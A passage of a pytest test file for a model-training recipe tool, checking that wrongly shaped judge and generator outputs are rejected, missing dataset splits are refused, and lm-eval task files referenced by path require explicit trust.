        "    - {name: dpo, recipe: tiny/dpo}\n")
    for command in ("validate", "run"):
        settled(work, zr(work, command, str(work / "in" / "p.yaml")), 2, *words)
    assert not (work / "runs" / "p" / "sft").exists()


JUDGE_OK = ("from zephyr_recipes.embedded import judge\n"
            "def rate(messages, response):\n    return judge.rate(messages, response)\n")


@pytest.mark.parametrize("result", ["4", *[pytest.param(r, marks=pytest.mark.slow)  # one shape in make test
                                    for r in ("'great'", "{'helpfulness': 'high'}", "None")]])
def test_values_a_judge_result_of_the_wrong_shape_is_an_error_and_never_cached(work, result):
    (work / "shapejudge.py").write_text(f"def rate(messages, response):\n    return {result}\n")
    r = aif_recipe(work, [TEACHER, '{name: sloppy, type: function, function: "tests.helpers:sloppy"}'],
                   "{type: function, module: shapejudge}")
    out = work / "runs" / "j"
    settled(work, zr(work, "run", r, "--trust-recipe-code", f"run.output_dir={out}"), 2,
            "shapejudge.rate returned", "a rate function must return a dict of aspect -> rating", "nothing of it")
    assert lines(out / "ratings.jsonl") == []
    (work / "shapejudge.py").write_text(JUDGE_OK)  # the fixed judge runs on what is there
    settled(work, zr(work, "run", r, "--trust-recipe-code", f"run.output_dir={out}"), 0, "run folder",
            complete=[out])


@pytest.mark.parametrize("result", ["['a list']", *[pytest.param(r, marks=pytest.mark.slow) for r in ("None", "42")]])
def test_values_a_generator_result_of_the_wrong_shape_is_an_error_and_never_recorded(work, result):
    (work / "shapegen.py").write_text(f"def answer(messages):\n    return {result}\n")
    r = aif_recipe(work, [TEACHER, '{name: mine, type: function, function: "shapegen:answer"}'], OWN_JUDGE)
    out = work / "runs" / "g"
    settled(work, zr(work, "run", r, "--trust-recipe-code", f"run.output_dir={out}"), 2,
            "generator function shapegen:answer returned", "must return the answer as a str")
    assert not any(x.get("model") == "mine" for x in lines(out / "completions.jsonl"))


@pytest.mark.parametrize("command", ["validate", pytest.param("run", marks=pytest.mark.slow)])
def test_values_a_test_split_that_does_not_exist_is_refused_with_evaluation_off(work, command):
    settled(work, zr(work, command, "tiny/sft", "dataset.test_split=nosuchsplit", "run.output_dir=runs/ts"), 2,
            "no split 'nosuchsplit'", "train_sft", "test_split=null")
    assert not (work / "runs" / "ts").exists()


def test_task_files_in_lm_evals_format_need_trust_in_any_section():
    """The gate knows lm-eval's task-file format, not the benchmark's name: a plugin benchmark (or a section under
    another name) that takes `tasks: [{yaml: ...}]` is gated the same way."""
    from zephyr_recipes.core import trust

    for section in ("lm_eval", "my_harness"):
        cfg = {"stage": {"name": "eval", section: {"tasks": [{"name": "t", "yaml": "/tmp/tasks/t.yaml"}]}}}
        assert [w for w, _ in trust.foreign(cfg)] == [f"stage.{section}.tasks[0].yaml"]
    assert trust.foreign({"stage": {"name": "eval", "lm_eval": {"tasks": ["arc_challenge", {"name": "t"}]}}}) == []
